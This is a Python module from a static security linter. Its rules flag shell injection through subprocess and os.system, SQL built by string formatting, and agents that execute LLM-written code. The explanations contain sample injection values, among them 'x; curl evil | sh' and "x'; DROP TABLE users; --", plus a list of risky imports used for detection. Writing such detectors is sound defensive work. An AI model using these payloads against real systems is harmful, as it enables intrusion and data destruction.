"""Injection: shell commands and SQL built from strings, and LLM output wired to code execution.

The rules look at how the string reaching a shell or a database is made: an f-string, `%`, `+`,
`.format()` or `" ".join(...)` with run-time values (directly, or through a name assigned earlier in
the same cell). A constant command or query cannot be injected into and is not reported. Values
that are all UPPER_CASE names (`{PROJECT_ID}`, `{TABLE}`) are configuration constants by convention:
those findings are kept at low severity.
"""
from __future__ import annotations

import re

from ..findings import Category, Confidence, Severity, Stage
from .base import Call, Invalid, MISSING, Rule, Valid, dotted_name, is_dynamic_string, is_true, literal, register, string_value

_CONSTANT_NAME = re.compile(r"^_*[A-Z][A-Z0-9_]*$")


def _is_str_literal(node) -> bool:
    import libcst as cst

    return isinstance(node, (cst.SimpleString, cst.ConcatenatedString)) and string_value(node) is not None


def how_built(node, ctx=None, depth: int = 0) -> str | None:
    """How a string is assembled at run time ("an f-string", "`%` formatting"...), or None (constant/unknown)."""
    import libcst as cst

    if node is None:
        return None
    if isinstance(node, cst.FormattedString):
        return "an f-string" if is_dynamic_string(node) else None
    if isinstance(node, cst.ConcatenatedString):
        return "an f-string" if is_dynamic_string(node) else None
    if isinstance(node, cst.BinaryOperation):
        parts = [node.left, node.right]
        if isinstance(node.operator, cst.Modulo) and literal(node.right) is MISSING:
            return "`%` formatting"
        if isinstance(node.operator, cst.Add) and any(literal(p) is MISSING for p in parts):
            if is_dynamic_string(node) or any(_is_str_literal(p) or how_built(p) for p in parts) or depth == 0:
                return "concatenation"
        return None
    if isinstance(node, cst.Call) and isinstance(node.func, cst.Attribute):
        attr = node.func.attr.value
        if attr == "format" and (node.args or is_dynamic_string(node)):
            if any(literal(a.value) is MISSING for a in node.args):
                return "`.format()`"
        if attr == "join" and _is_str_literal(node.func.value) and node.args:
            arg = node.args[0].value
            if literal(arg) is MISSING:
                return "`str.join` of run-time values"
        return None
    if ctx is not None and depth == 0 and isinstance(node, cst.Name):
        for value in reversed(ctx.local_values(node.value)):
            how = how_built(value, ctx, depth + 1)
            if how:
                return f"`{node.value}` (made with {how} in this cell)"
    return None


def placeholders(node, ctx=None, depth: int = 0) -> list:
    """The run-time values interpolated into a built string (for the UPPER_CASE-constants heuristic)."""
    import libcst as cst

    if isinstance(node, cst.FormattedString):
        return [p.expression for p in node.parts if isinstance(p, cst.FormattedStringExpression)]
    if isinstance(node, cst.ConcatenatedString):
        return placeholders(node.left, ctx, depth) + placeholders(node.right, ctx, depth)
    if isinstance(node, cst.BinaryOperation):
        if isinstance(node.operator, cst.Modulo):
            r = node.right
            return [e.value for e in r.elements] if isinstance(r, (cst.Tuple, cst.List)) else [r]
        out = []
        for p in (node.left, node.right):
            if isinstance(p, (cst.BinaryOperation, cst.FormattedString)):
                out.extend(placeholders(p, ctx, depth))
            elif literal(p) is MISSING:
                out.append(p)
        return out
    if isinstance(node, cst.Call) and isinstance(node.func, cst.Attribute):
        if node.func.attr.value == "format":
            return [a.value for a in node.args]
        if node.func.attr.value == "join" and node.args:
            arg = node.args[0].value
            if isinstance(arg, (cst.List, cst.Tuple)):
                return [e.value for e in arg.elements if literal(e.value) is MISSING]
            return [arg]
    if ctx is not None and depth == 0 and isinstance(node, cst.Name):
        for value in reversed(ctx.local_values(node.value)):
            if how_built(value, ctx, 1):
                return placeholders(value, ctx, 1)
    return [node]


def constant_like(values: list) -> bool:
    """All interpolated values are UPPER_CASE names, attributes ending in one, or literals."""
    import libcst as cst

    if not values:
        return False
    for v in values:
        if isinstance(v, cst.Call) and dotted_name(v.func) in ("str", "int", "repr") and v.args:
            v = v.args[0].value
        if literal(v) is not MISSING:
            continue
        d = dotted_name(v)
        if d is None or not _CONSTANT_NAME.match(d.rsplit(".", 1)[-1]):
            return False
    return True


def literal_text(node, ctx=None, depth: int = 0) -> str:
    """The constant text of a built string (f-string text parts, `%`/`.format` templates, `+` literals)."""
    import libcst as cst

    if node is None:
        return ""
    s = string_value(node)
    if s is not None:
        return s
    if isinstance(node, cst.FormattedString):
        return "".join(p.value if isinstance(p, cst.FormattedStringText) else " ? " for p in node.parts)
    if isinstance(node, cst.ConcatenatedString):
        return literal_text(node.left, ctx, depth) + literal_text(node.right, ctx, depth)
    if isinstance(node, cst.BinaryOperation):
        return literal_text(node.left, ctx, depth) + " " + literal_text(node.right, ctx, depth)
    if isinstance(node, cst.Call) and isinstance(node.func, cst.Attribute) and node.func.attr.value == "format":
        return literal_text(node.func.value, ctx, depth)
    if ctx is not None and depth == 0 and isinstance(node, cst.Name):
        return " ".join(literal_text(v, ctx, 1) for v in ctx.local_values(node.value))
    return ""


def _severity(built_from, node, ctx, high: Severity) -> tuple[Severity, list[str]]:
    if constant_like(placeholders(node, ctx)):
        return Severity.LOW, ["only UPPER_CASE constants are interpolated; check they never come from input"]
    return high, []


_IDENT_BEFORE = re.compile(
    r"(?:\b(?:FROM|JOIN|INTO|TABLE|UPDATE|EXISTS|INDEX|VIEW|MODEL|SCHEMA|DATABASE|ON)\s+[`\[]?[\w.\-{}`]*"
    r"|`[\w.\-{}]*|[\w}]\.)$",
    re.I,
)


def texts_before_placeholders(node, ctx=None, depth: int = 0) -> list[str] | None:
    """For each interpolated value of a built string, the constant text right before it (None: cannot tell)."""
    import libcst as cst

    if isinstance(node, cst.FormattedString):
        out, text = [], ""
        for p in node.parts:
            if isinstance(p, cst.FormattedStringText):
                text += p.value
            else:
                out.append(text)
                text += "{}"
        return out
    if isinstance(node, cst.Call) and isinstance(node.func, cst.Attribute) and node.func.attr.value == "format":
        tmpl = string_value(node.func.value)
        if tmpl is None:
            return None
        return [tmpl[: m.start()] for m in re.finditer(r"\{[^{}]*\}", tmpl)]
    if isinstance(node, cst.BinaryOperation) and isinstance(node.operator, cst.Modulo):
        tmpl = string_value(node.left)
        if tmpl is None:
            return None
        return [tmpl[: m.start()] for m in re.finditer(r"%(?:\([^)]*\))?[-#0 +]*\d*(?:\.\d+)?[sdifr]", tmpl)]
    if ctx is not None and depth == 0 and isinstance(node, cst.Name):
        for value in reversed(ctx.local_values(node.value)):
            if how_built(value, ctx, 1):
                return texts_before_placeholders(value, ctx, 1)
    return None


def identifiers_only(node, ctx) -> bool:
    """All values are interpolated where SQL expects a table or column name (`FROM {table}`, `` `{p}.{d}.t` ``)."""
    befores = texts_before_placeholders(node, ctx)
    return bool(befores) and all(_IDENT_BEFORE.search(b) for b in befores)


# ---------------------------------------------------------------------------------------------
# MLS701 subprocess with shell=True

_SUBPROCESS = ("subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output",
               "subprocess.Popen")


@register
class SubprocessShellInjection(Rule):
    id = "MLS701"
    name = "subprocess-shell-injection"
    category = Category.INJECTION
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    cwe = 78
    stage = Stage.OPERATION
    message = "`{name}(..., shell=True)` runs a command built from {how}: a value with `;`, `|` or `$()` runs its own commands"
    fix_hint = "Pass a list of arguments without `shell=True` (`subprocess.run([\"tool\", arg])`); if a shell is unavoidable, `shlex.quote` each value."
    explanation = """
**Why**: with `shell=True` the command string goes to `/bin/sh`, which interprets `;`, `&&`, `|`,
backticks and `$(...)`. When the string is assembled from values (a file name from a dataset, a
model name from a config or an LLM, a user's input), a value such as `x; curl evil | sh` runs extra
commands. With a list of arguments and no shell, each value is one argument, whatever it holds.

Reported when the command is an f-string, `%`/`+`/`.format()`/`" ".join()` with run-time values, or
a name assigned such a string earlier in the same cell (high; low when only UPPER_CASE constants
are interpolated). A command in a variable whose origin mlsec cannot see is reported at low
severity and confidence. A constant command string is not reported: nothing can be injected into it
(bandit's B602 reports those at low severity when it runs).

**Example**: `subprocess.run(f"ffmpeg -i {video_path} out.wav", shell=True)`

**Fix**: `subprocess.run(["ffmpeg", "-i", video_path, "out.wav"], check=True)`; if you need shell
features, `shlex.quote(video_path)` every interpolated value.
"""
    triggers = (r"shell\s*=",)  # every finding needs the keyword, so no alias triggers
    bandit_ids = ("B602", "B604")
    VALID = [
        Valid("import subprocess\nsubprocess.run(['ls', path])"),
        Valid("import subprocess\nsubprocess.check_output('gcloud auth print-identity-token -q', shell=True)",
              note="constant command"),
        Valid("import subprocess\nsubprocess.run(f'ls {path}', shell=False)"),
        Valid("import subprocess\nsubprocess.run(f'ls {path}')", note="no shell: a single program name"),
        Valid("def run(cmd, shell=True):\n    return cmd\nrun(f'ls {p}', shell=True)", note="not subprocess"),
    ]
    INVALID = [
        Invalid("import subprocess\nsubprocess.run(f'ffmpeg -i {video} out.wav', shell=True)", line=2, severity="high"),
        Invalid("import subprocess as sp\nsp.Popen('tar xf ' + archive, shell=True)", line=2),
        Invalid("from subprocess import check_output\ncheck_output('wc -l %s' % path, shell=True)"),
        Invalid("import subprocess\nsubprocess.call('convert {} {}'.format(a, b), shell=True)"),
        Invalid("import subprocess\ncmd = f'gsutil cp {src} {dst}'\nsubprocess.run(cmd, shell=True, check=True)", line=3,
                note="one level of local data flow"),
        Invalid("import subprocess\nsubprocess.run(f'gcloud config set project {PROJECT_ID}', shell=True)",
                severity="low", note="UPPER_CASE constants only"),
        Invalid("import subprocess\ndef sh(command):\n    return subprocess.run(command, shell=True)", line=3,
                severity="low", note="origin unknown"),
        Invalid("import subprocess\nsubprocess.run(' '.join(['ls', user_dir]), shell=True)"),
    ]

    def check_call(self, call: Call, ctx) -> None:
        if not call.is_(*_SUBPROCESS) or not is_true(call.arg(None, "shell")):
            return
        cmd = call.arg(0, "args")
        _report_command(self, call, cmd, ctx, call.qualname.replace("subprocess.", "subprocess."))


def _report_command(rule: Rule, call: Call, cmd, ctx, name: str) -> None:
    import libcst as cst

    if cmd is None or literal(cmd) is not MISSING or isinstance(cmd, (cst.List, cst.Tuple)):
        return
    how = how_built(cmd, ctx)
    if how:
        sev, notes = _severity(how, cmd, ctx, rule.severity)
        conf = Confidence.MEDIUM if how.endswith("in this cell)") else Confidence.HIGH
        ctx.report(rule, call.node, message=rule.message.format(name=name, how=how), severity=sev,
                   confidence=conf, notes=notes)
        return
    if isinstance(cmd, (cst.Name, cst.Attribute, cst.Subscript, cst.Call)):
        ctx.report(rule, call.node, severity=Severity.LOW, confidence=Confidence.LOW,
                   message=rule.message.format(name=name, how="a value mlsec cannot see")
                   .replace("runs a command built from a value mlsec cannot see:",
                            "runs a command whose origin mlsec cannot see; if any part comes from data or input,"))


# ---------------------------------------------------------------------------------------------
# MLS702 os.system and other always-shell calls

_SHELL_CALLS = ("os.system", "os.popen", "os.popen2", "os.popen3", "os.popen4", "commands.getoutput",
                "commands.getstatusoutput", "subprocess.getoutput", "subprocess.getstatusoutput",
                "asyncio.create_subprocess_shell", "popen2.popen2", "popen2.popen3", "popen2.popen4")


@register
class OsSystemInjection(Rule):
    id = "MLS702"
    name = "os-system-injection"
    category = Category.INJECTION
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    cwe = 78
    stage = Stage.OPERATION
    message = "`{name}` runs a shell command built from {how}: a value with `;`, `|` or `$()` runs its own commands"
    fix_hint = "Use `subprocess.run([...])` with a list of arguments (no shell); if a shell is unavoidable, `shlex.quote` each value."
    explanation = """
**Why**: `os.system`, `os.popen`, `subprocess.getoutput` / `getstatusoutput`, `commands.getoutput` and
`asyncio.create_subprocess_shell` always hand the string to `/bin/sh`. A value interpolated into it
(a path from a dataset, a name from a config or an LLM's answer) that contains `;`, `|`, backticks or
`$(...)` runs additional commands with the kernel's permissions and credentials.

Reported for f-strings, `%`, `+`, `.format()` and `" ".join()` with run-time values, also through a
name assigned earlier in the same cell (low severity when only UPPER_CASE constants are
interpolated; low severity and confidence when the command is a variable of unknown origin).
Constant commands are not reported (nothing can be injected; bandit's B605 reports them as low).

**Example**: `os.system(f"unzip {archive} -d data/")`

**Fix**: `subprocess.run(["unzip", archive, "-d", "data/"], check=True)`, or for the common cases
`shutil.unpack_archive`, `shutil.copy`, `pathlib`, which need no shell at all.
"""
    # `get_ipython().system(...)` / `.getoutput(...)` are `!` lines, not calls to look at. Each pattern starts
    # with a literal (the lookbehinds come after it) so that the combined prefilter regex scans fast.
    triggers = (r"system\((?<!\)\.system\()", r"popen", r"getoutput\((?<!\)\.getoutput\()", r"getstatusoutput",
                r"create_subprocess_shell")
    bandit_ids = ("B605",)
    VALID = [
        Valid("import os\nos.system('nvidia-smi')", note="constant command"),
        Valid("import os\nos.popen('ls').read()"),
        Valid("get_ipython().system('pip install {pkg}')", note="IPython's own ! expansion"),
        Valid("import platform\nplatform.system()"),
        Valid("print(f'os.system({x})')"),
    ]
    INVALID = [
        Invalid("import os\nos.system(f'unzip {archive} -d data/')", line=2, severity="high"),
        Invalid("import os\nos.popen('cat ' + path).read()", line=2),
        Invalid("import subprocess\nsubprocess.getoutput('du -sh %s' % folder)"),
        Invalid("import os\nc = 'wget {}'.format(url)\nos.system(c)", line=3),
        Invalid("import os\nexit_code = os.system(creation_command)", severity="low", note="origin unknown"),
        Invalid("from os import system\nsystem(f'rm -rf {tmp}')"),
        Invalid("import os\nos.system(f'gsutil mb -l {REGION} {BUCKET_URI}')", severity="low"),
    ]

    def check_call(self, call: Call, ctx) -> None:
        if call.is_(*_SHELL_CALLS):
            _report_command(self, call, call.arg(0, "cmd") or call.arg(None, "command"), ctx, call.qualname)


# ---------------------------------------------------------------------------------------------
# MLS703 SQL built by formatting

_SQL_START = re.compile(
    r"^\s*(?:\(\s*)?(?:SELECT|INSERT|UPDATE|DELETE|CREATE|DROP|ALTER|WITH|REPLACE|MERGE|GRANT|REVOKE|TRUNCATE|"
    r"PRAGMA|EXEC|EXECUTE|CALL|SHOW|DESCRIBE|UPSERT|COPY|ATTACH|LOAD|VACUUM|BEGIN|COMMIT|SET)\b",
    re.I,
)
_SQL_CALLS = ("pandas.read_sql", "pandas.read_sql_query", "pandas.io.sql.read_sql", "pandas.io.sql.read_sql_query",
              "sqlalchemy.text", "sqlalchemy.sql.text", "sqlalchemy.sql.expression.text", "duckdb.sql", "duckdb.query",
              "duckdb.execute", "pandas.read_gbq", "pandas_gbq.read_gbq", "bigframes.pandas.read_gbq",
              "polars.read_database", "dask.dataframe.read_sql_query", "pandasql.sqldf")
_DB_MODULES = ("sqlite3", "psycopg2", "psycopg", "pymysql", "MySQLdb", "mysql.connector", "sqlalchemy", "duckdb",
               "snowflake.connector", "pyodbc", "cx_Oracle", "oracledb", "pg8000", "databricks.sql", "trino",
               "pymssql", "ibm_db", "teradatasql", "clickhouse_driver", "aiosqlite", "asyncpg", "google.cloud.bigquery",
               "pyspark")
_EXECUTE_METHODS = ("execute", "executemany", "executescript", "exec_driver_sql", "fetch", "fetchrow", "fetchval",
                    "query", "sql", "read_sql")
_DB_RECEIVER = re.compile(r"^(?:cur|curs|cursor|c|conn|connection|con|cnx|db|dbc|engine|session|sess|client|spark|"
                          r"\w*_(?:cur|cursor|conn|connection|con|db|engine|session))$", re.I)


def _db_receiver(call: Call, ctx) -> tuple[bool, Confidence]:
    """Whether `x.execute(...)` / `x.query(...)` is called on a database cursor, connection, engine or client."""
    import libcst as cst

    func = call.node.func
    if not isinstance(func, cst.Attribute) or func.attr.value not in _EXECUTE_METHODS:
        return False, Confidence.HIGH
    q = call.qualname
    if q:
        head = q.split("(")[0]
        if any(head == m or head.startswith(m + ".") for m in _DB_MODULES):
            return True, Confidence.HIGH
        return False, Confidence.HIGH
    recv = func.value
    if isinstance(recv, cst.Call) and isinstance(recv.func, cst.Attribute) and recv.func.attr.value == "cursor":
        return True, Confidence.MEDIUM  # conn.cursor().execute(...)
    d = dotted_name(recv)
    if d and _DB_RECEIVER.match(d.rsplit(".", 1)[-1]) and func.attr.value in ("execute", "executemany",
                                                                              "executescript", "sql", "query"):
        return True, Confidence.MEDIUM
    return False, Confidence.HIGH


@register
class SqlInjection(Rule):
    id = "MLS703"
    name = "sql-injection"
    category = Category.INJECTION
    severity = Severity.MEDIUM
    confidence = Confidence.HIGH
    cwe = 89
    stage = Stage.DATA_PREPARATION
    message = "SQL passed to `{name}` is built from {how}: a value containing a quote changes the query"
    fix_hint = "Pass values as query parameters (`cur.execute(\"... WHERE id = ?\", (x,))`, `text(\"... :id\")` with `params=`); whitelist table and column names."
    explanation = """
**Why**: when a value is pasted into SQL text, a quote in it ends the literal and the rest is SQL:
`name = "x' OR '1'='1"` returns every row, `"x'; DROP TABLE users; --"` deletes data. In notebooks
the values come from files, DataFrames, widgets, API responses or, more and more, from an LLM
(text-to-SQL), any of which can carry such text. Database drivers send parameters separately from
the query, so no value can change its structure.

Reported for `pandas.read_sql` / `read_sql_query`, `sqlalchemy.text`, DuckDB, BigQuery / `read_gbq`,
Spark `sql`, and `.execute` / `.executemany` on DB-API cursors and connections (typed through the
notebook's imports, or named like one: `cur`, `cursor`, `conn`, `engine`...), when the query is an
f-string, `%`, `+` or `.format()` with run-time values, also through a name assigned in the same
cell. Only UPPER_CASE constants interpolated (`{TABLE_ID}`): low severity.

**Example**: `pd.read_sql(f"SELECT * FROM users WHERE name = '{name}'", conn)`

**Fix**: `pd.read_sql("SELECT * FROM users WHERE name = ?", conn, params=(name,))`;
`conn.execute(text("SELECT * FROM t WHERE id = :id"), {"id": x})`; BigQuery
`QueryJobConfig(query_parameters=[...])`. Identifiers (table names) cannot be parameters: check them
against a fixed list.
"""
    triggers = (r"read_sql", r"\.execute\(", r"executemany", r"executescript", r"exec_driver_sql", r"text\((?<!\wtext\()", r"\.sql\(", r"\.query\(", r"read_gbq", r"sqldf",
                r"read_database", r"\.fetch")
    modules = ("sqlalchemy.text", "sqlalchemy.sql.text")  # `from sqlalchemy import text as sql_text`
    bandit_ids = ("B608",)
    VALID = [
        Valid("import sqlite3\nconn = sqlite3.connect('db.sqlite')\ncur = conn.cursor()\n"
              "cur.execute('SELECT * FROM t WHERE id = ?', (x,))"),
        Valid("import pandas as pd\npd.read_sql('SELECT * FROM t', conn)"),
        Valid("from sqlalchemy import text\nconn.execute(text('SELECT * FROM t WHERE id = :id'), {'id': x})"),
        Valid("q = f'SELECT {x}'\nprint(q)", note="never executed"),
        Valid("request.execute()", note="an API request object, not SQL"),
        Valid("import sqlite3\nconn = sqlite3.connect('d.db')\nQ = 'SELECT * FROM t'\nconn.execute(Q)"),
        Valid("log.info(f'select {n} rows')"),
    ]
    INVALID = [
        Invalid("import pandas as pd\ndf = pd.read_sql(f\"SELECT * FROM users WHERE name = '{name}'\", conn)", line=2,
                severity="medium"),
        Invalid("import sqlite3\nconn = sqlite3.connect('db.sqlite')\ncur = conn.cursor()\n"
                "cur.execute(\"SELECT * FROM t WHERE name = '%s'\" % name)", line=4),
        Invalid("import sqlite3\nconn = sqlite3.connect('d.db')\ncur = conn.cursor()\n"
                "q = f'DELETE FROM t WHERE id = {row_id}'\ncur.execute(q)", line=5, note="local data flow"),
        Invalid("import sqlalchemy\ncmd = sqlalchemy.text(f'SELECT 1 FROM {table_name} LIMIT 1')", line=2),
        Invalid("from sqlalchemy import text\nresult = conn.execute(text(f'SELECT * from {TABLE_NAME};'))", severity="low"),
        Invalid("cursor.execute('INSERT INTO t VALUES (' + value + ')')", note="untyped cursor, SQL-looking text"),
        Invalid("import duckdb\nduckdb.sql(f\"SELECT * FROM 'data.parquet' WHERE label = '{label}'\")"),
        Invalid("from google.cloud import bigquery\nclient = bigquery.Client()\n"
                "client.query(f'SELECT * FROM `{project}.{dataset}.t` WHERE x = {x}')", line=3, severity="medium"),
        Invalid("import pandas as pd\npd.read_sql_query('SELECT * FROM t WHERE c = {}'.format(v), engine)",
                severity="medium"),
        Invalid("from google.cloud import bigquery\nbq = bigquery.Client()\nsql = f'SELECT * FROM {table_id}'\n"
                "bq.query(sql)", line=4, severity="low", note="only a table name is interpolated"),
        Invalid("import sqlite3\ncon = sqlite3.connect('x.db')\ncon.execute('SELECT * FROM `%s` WHERE a = %s' % (t, a))",
                severity="medium", note="a value position, not only the table name"),
    ]

    def check_call(self, call: Call, ctx) -> None:
        name = None
        confidence = Confidence.HIGH
        if call.is_(*_SQL_CALLS):
            name = call.qualname
            query = call.arg(0, "sql") or call.arg(None, "query") or call.arg(None, "text")
            need_sql_text = call.qualname in ("pandas.read_gbq", "pandas_gbq.read_gbq", "bigframes.pandas.read_gbq")
        else:
            is_db, confidence = _db_receiver(call, ctx)
            if not is_db:
                return
            name = call.dotted or (call.qualname or "execute").replace("()", "")
            query = call.arg(0, "sql") or call.arg(None, "query") or call.arg(None, "statement") or call.arg(
                None, "operation")
            need_sql_text = confidence != Confidence.HIGH
        how = how_built(query, ctx)
        if not how:
            return
        if need_sql_text and not _SQL_START.match(literal_text(query, ctx)):
            return
        if how.endswith("in this cell)"):
            confidence = Confidence.MEDIUM
        sev, notes = _severity(how, query, ctx, self.severity)
        if sev > Severity.LOW and identifiers_only(query, ctx):
            sev, notes = Severity.LOW, ["only table or column names are interpolated: check them against a fixed list"]
        ctx.report(self, call.node, severity=sev, confidence=confidence, notes=notes,
                   message=self.message.format(name=name, how=how))


# ---------------------------------------------------------------------------------------------
# MLS704 LLM output executed as code or queries

_PY_REPL_CLASSES = ("PythonREPLTool", "PythonREPL", "PythonAstREPLTool")
_RISKY_IMPORTS = {"*", "os", "subprocess", "sys", "shutil", "builtins", "importlib", "pickle", "socket", "ctypes",
                  "pty", "multiprocessing", "posix", "io", "pathlib"}


@register
class LlmCodeExecution(Rule):
    id = "MLS704"
    name = "llm-code-execution"
    category = Category.INJECTION
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    cwe = 94
    stage = Stage.OPERATION
    message = "{what}: text an LLM writes (and so any prompt injection in its input) {effect}"
    fix_hint = "Run generated code in a sandbox (container, remote executor) without credentials; give agents narrow tools instead of a Python REPL or raw queries."
    explanation = """
**Why**: an agent's output is steered by everything in its context: documents, web pages, tool
results, user messages. A prompt injection in any of them becomes code or queries when the output
is executed. Reported:
- LangChain `PythonREPLTool()` / `PythonREPL()` / `PythonAstREPLTool()`, and
  `allow_dangerous_code=True` (pandas/CSV agents): generated Python runs in your kernel, with your
  files and credentials (high).
- `allow_dangerous_requests=True` (requests toolkits, `GraphCypherQAChain`, SQL/graph chains):
  generated HTTP requests or database queries run with your credentials and can change data
  (medium).
- smolagents `CodeAgent(additional_authorized_imports=[...])` allowing `*`, `os`, `subprocess`,
  `shutil`, `pickle`...: the local interpreter's restrictions no longer hold (high).

**Example**: `agent = create_pandas_dataframe_agent(llm, df, allow_dangerous_code=True)`

**Fix**: execute generated code in an isolated sandbox (E2B, Docker, a remote executor with no
secrets: smolagents `executor_type="e2b"`/`"docker"`), use read-only database users and narrow
tools, and keep a human approval step for actions that change data.
"""
    triggers = (r"allow_dangerous|REPL|additional_authorized_imports",)
    VALID = [
        Valid("agent = CodeAgent(tools=[], model=m, additional_authorized_imports=['numpy', 'pandas'])"),
        Valid("chain = GraphCypherQAChain.from_llm(llm=llm, graph=g, allow_dangerous_requests=False)"),
        Valid("agent = create_pandas_dataframe_agent(llm, df)"),
    ]
    INVALID = [
        Invalid("agent = create_pandas_dataframe_agent(llm, df, allow_dangerous_code=True)", line=1, severity="high"),
        Invalid("chain = GraphCypherQAChain.from_llm(llm=llm, graph=graph, allow_dangerous_requests=True)",
                severity="medium"),
        Invalid("from langchain_experimental.tools.python.tool import PythonREPLTool\ntools = [PythonREPLTool()]",
                line=2),
        Invalid("from langchain_experimental.utilities import PythonREPL\nrepl = PythonREPL()"),
        Invalid("agent = CodeAgent(tools=[], model=m, additional_authorized_imports=['*'])"),
        Invalid("agent = CodeAgent(tools=[], model=m, additional_authorized_imports=['os', 'requests'])"),
    ]

    def check_call(self, call: Call, ctx) -> None:
        if is_true(call.arg(None, "allow_dangerous_code")):
            ctx.report(self, call.node, message=self.message.format(
                what="`allow_dangerous_code=True`", effect="runs as Python in your kernel"))
            return
        if is_true(call.arg(None, "allow_dangerous_requests")):
            ctx.report(self, call.node, severity=Severity.MEDIUM, message=self.message.format(
                what="`allow_dangerous_requests=True`",
                effect="becomes HTTP requests or database queries run with your credentials"))
            return
        cls = call.name
        if cls in _PY_REPL_CLASSES and (call.qualname is None or "langchain" in call.qualname):
            if call.qualname is None and not any("langchain" in q for q in ctx.context.imported()):
                return
            ctx.report(self, call.node, message=self.message.format(
                what=f"`{cls}()` gives an agent a Python REPL", effect="runs in your kernel, unsandboxed"))
            return
        imports = call.arg(None, "additional_authorized_imports")
        if imports is not None:
            values = literal(imports)
            if isinstance(values, tuple):
                risky = sorted({v for v in values if isinstance(v, str) and (v in _RISKY_IMPORTS or
                                                                            v.split(".")[0] in _RISKY_IMPORTS)})
                if risky:
                    ctx.report(self, call.node, message=self.message.format(
                        what=f"agent code may import {', '.join(risky)}",
                        effect="runs with access to the shell and files"))
